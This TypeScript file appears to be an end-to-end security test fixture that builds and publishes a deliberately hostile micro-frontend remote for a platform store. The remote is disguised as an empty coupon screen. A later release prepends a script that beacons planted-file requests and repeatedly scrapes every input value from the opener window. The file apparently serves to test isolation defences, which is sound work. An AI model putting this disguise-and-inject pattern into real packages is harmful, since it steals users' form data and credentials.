/** The hostile remote: built and released as a team does, with the ways in it and a file that also runs as a worker. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { publish } from '@yaksok/platform/release'
import { forkRelease } from '@yaksok/platform/testing'
import { buildNewRemote } from '../../../../tests/e2e/src/new-part.ts'

const HERE = import.meta.dirname
const FAMILIES = join(HERE, 'families')

const SCREEN = `import { AppBar, Screen } from '@yaksok/shared/page/ui'
import { families } from '../families/index.ts'

const loot: unknown[] = []
Object.assign(globalThis, {
  hostile: {
    loot,
    run: async (given: { id: string }) => {
      const way = families.flatMap(({ ways }) => ways).find(({ id }) => id === given.id)
      return await way?.run({ ...given, loot } as never)
    },
  },
})

export default function Evil() {
  return <Screen bar={<AppBar title="쿠폰" />}><p>쿠폰이 없어요</p></Screen>
}
`

/**
 * Stands before the container's own code: as a worker, or as a script with a name in its address, the file does what the
 * ways want of it. A team can release any script.
 */
const ELSEWHERE = `(() => {
  const isPage = typeof document !== 'undefined'
  const name = isPage ? (document.currentScript?.src ?? '').split('#')[1] : 'worker'
  if (!name) return
  const tell = () => void fetch('/planted-' + name).catch(() => {})
  if (name !== 'watch-opener') return void (tell(), setInterval(tell, 200))
  window.loot = []
  setInterval(() => {
    try {
      for (const input of opener.document.querySelectorAll('input')) loot.push(input.value)
    } catch (error) {
      loot.push(String(error))
    }
  }, 20)
})();`

/** Releases it into a store, to everybody. */
export async function releaseHostile(store: string): Promise<void> {
  const files = readdirSync(FAMILIES).map((name) => [`families/${name}`, readFileSync(join(FAMILIES, name), 'utf8')])
  const built = await buildNewRemote(store, {
    name: 'evil',
    description: { routes: [{ path: '/Evil', screen: 'main', title: '쿠폰', tabBar: true }] },
    sources: {
      ...Object.fromEntries(files),
      'way.ts': readFileSync(join(HERE, 'way.ts'), 'utf8'),
      'main/index.tsx': SCREEN,
    },
  })
  await publish(store, built)
  const entry = new RegExp(`${built.entry.replaceAll('.', '\\.')}$`)
  await publish(store, forkRelease(store, 'evil', { version: '1.0.1', files: [[entry, (text) => ELSEWHERE + text]] }))
}
